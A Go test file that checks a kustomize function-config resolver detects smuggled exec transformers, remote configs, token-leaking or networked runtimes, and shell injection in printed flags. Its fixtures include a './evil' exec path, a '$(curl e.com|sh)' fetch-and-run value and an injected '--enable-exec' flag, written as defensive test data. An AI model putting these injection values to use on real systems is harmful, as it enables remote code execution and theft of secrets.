// SPDX-License-Identifier: Apache-2.0

package functions

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// What kustomize reads, and Resolve does not, would run with the flags that are printed for others.
func TestKustomizeReadsNothingElse(t *testing.T) {
	hidden := configText("a") + "  annotations: {config.kubernetes.io/function: 'exec: {path: ./evil}'}\n"
	const other = "kustomize reads other transformers here: write the field once, in lower case, and without <<"
	for name, test := range map[string]struct {
		files map[string]string
		want  string
	}{
		"in a field in capitals": {map[string]string{"kustomization.yaml": "resources: []\nTransformers: [evil.yaml]\n", "evil.yaml": hidden},
			"kustomization.yaml:1: " + other},
		"in a field with another s": {map[string]string{"kustomization.yaml": "transformer\u017f: [evil.yaml]\n", "evil.yaml": hidden},
			"kustomization.yaml:1: " + other},
		"in a merge": {map[string]string{"kustomization.yaml": "resources: []\ntransformers: [a.yaml]\n<<: {transformers: [evil.yaml]}\n",
			"a.yaml": configText("a"), "evil.yaml": hidden}, "kustomization.yaml:2: " + other},
		"nothing, by a merge": {map[string]string{"kustomization.yaml": "resources: []\nvalidators: [a.yaml]\n<<: {validators: []}\n", "a.yaml": configText("a")},
			"kustomization.yaml:2: kustomize reads other validators here: write the field once, in lower case, and without <<"},
	} {
		_, got := resolveFiles(t, test.files)
		if !slices.Equal(got, []string{test.want}) {
			t.Errorf("%s:\n got %q\nwant %q", name, got, test.want)
		}
	}
}

// Kustomize asks the network for these, whatever lies in the directory.
func TestRemoteConfigsAreNotTakenForLocalOnes(t *testing.T) {
	for name, test := range map[string]struct{ entry, file string }{
		"an address":                   {"https://e.com/a.yaml", "https:/e.com/a.yaml"},
		"an address in capitals":       {"HTTPS:a.yaml", "HTTPS:a.yaml"},
		"a repository":                 {"github.com/org/repo", "github.com/org/repo/kustomization.yaml"},
		"a repository in capitals":     {"GitHub.com/org/repo", "GitHub.com/org/repo/kustomization.yaml"},
		"a repository over SSH":        {"GitHub.com:org/repo", "GitHub.com:org/repo/kustomization.yaml"},
		"a repository of a user":       {"git@e.com/org/repo", "git@e.com/org/repo/kustomization.yaml"},
		"a repository with a protocol": {"GIT::github.com/org/repo", "GIT::github.com/org/repo/kustomization.yaml"},
	} {
		content := configText("a")
		if strings.HasSuffix(test.file, "/kustomization.yaml") {
			content = "resources: []\n"
		}
		_, got := resolveFiles(t, map[string]string{"kustomization.yaml": "transformers: ['" + test.entry + "']\n", test.file: content})
		want := fmt.Sprintf("kustomization.yaml:1: transformers %q is remote and not fetched: keep the configs of functions in the directory", test.entry)
		if !slices.Equal(got, []string{want}) {
			t.Errorf("%s: %q", name, got)
		}
	}
}

func TestARuntimeInAFileIsNoConsent(t *testing.T) {
	for runtime, want := range map[string]string{
		"{container: {image: a, mounts: [{type: bind, src: ., dst: /x, rw: true}]}}": "A of e.com/v1 has mounts in its runtime, which kustomize makes without a flag: remove them, and pass --mount",
		"{container: {image: a, envs: [A=b, TOKEN]}}":                                `A of e.com/v1 has the variable "TOKEN" of this machine in its runtime, which kustomize hands over without a flag: remove it, and pass --env to kustomize`,
		"{container: {image: a, network: true}}":                                     "A of e.com/v1 has the network in its runtime: pass --network to allow it",
		"{exec: {path: ./evil}}":                                                     `A of e.com/v1 has the program "./evil", which runs with all rights of the user: look at it, and pass --enable-exec to allow it`,
	} {
		_, got := resolveFiles(t, map[string]string{"kustomization.yaml": "validators: [a.yaml]\n",
			"a.yaml": configText("a") + "  annotations: {config.k8s.io/function: '" + runtime + "'}\n"})
		if !slices.Equal(got, []string{"a.yaml:1: " + want}) {
			t.Errorf("%s: %q", runtime, got)
		}
	}
}

// Kustomize reads the text of these whatever their type is.
func TestTypesHideNothing(t *testing.T) {
	const second = "\n    config.k8s.io/function: 'container: {image: \"a@sha256:0a\"}'\n"
	for value, want := range map[string]string{
		"!x 'exec: {path: ./evil}'":       "a.yaml:1: the config of a function has a value with the tag \"!x\" in the annotation config.kubernetes.io/function: expected a string",
		"!!binary 'exec: {path: ./evil}'": "a.yaml:1: the config of a function has a value with the tag \"!!binary\" in the annotation config.kubernetes.io/function: expected a string",
		"~":                               "a.yaml:1: the config of a function has null in the annotation config.kubernetes.io/function: expected a string",
	} {
		_, got := resolveFiles(t, map[string]string{"kustomization.yaml": "validators: [a.yaml]\n",
			"a.yaml": configText("a") + "  annotations:\n    config.kubernetes.io/function: " + value + second})
		if !slices.Equal(got, []string{want}) {
			t.Errorf("%s: %q", value, got)
		}
	}
	result, problems := resolveFiles(t, map[string]string{"kustomization.yaml": "validators: [a.yaml]\n", "a.yaml": configText("123")})
	if len(problems) > 0 || !strings.HasSuffix(string(result.Files["a.yaml"]), "  name: 123\n") {
		t.Errorf("%v %q", problems, result.Files)
	}
}

// People copy the flag of a message into a shell.
func TestAFlagInAMessageIsOneWord(t *testing.T) {
	for reference, want := range map[string]string{
		"oci://e.com/c:v1":                 "oci://e.com/c:v1",
		"oci://e.com/$(curl e.com|sh)":     "'oci://e.com/$(curl e.com|sh)'",
		"oci://e.com/c' --enable-exec 'x":  `'oci://e.com/c'\'' --enable-exec '\''x'`,
		"oci://e.com/c:v1 --enable-exec #": "'oci://e.com/c:v1 --enable-exec #'",
	} {
		_, got := resolveFiles(t, map[string]string{"kustomization.yaml": fmt.Sprintf("catalogs: [%q]\n", reference)})
		if len(got) != 1 || !strings.HasSuffix(got[0], " pass --trusted-catalog "+want) {
			t.Errorf("%s: %q", reference, got)
		}
	}
}
